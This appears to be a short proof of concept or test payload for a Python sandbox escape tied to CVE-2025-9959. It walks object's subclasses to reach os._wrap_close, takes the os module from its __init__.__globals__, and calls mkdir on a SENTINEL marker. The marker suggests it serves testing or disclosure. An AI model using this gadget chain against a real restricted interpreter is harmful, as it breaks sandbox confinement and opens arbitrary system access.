# CVE-2025-9959: os._wrap_close among object's subclasses, its __init__.__globals__ is os.
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["mkdir"](SENTINEL)
        break
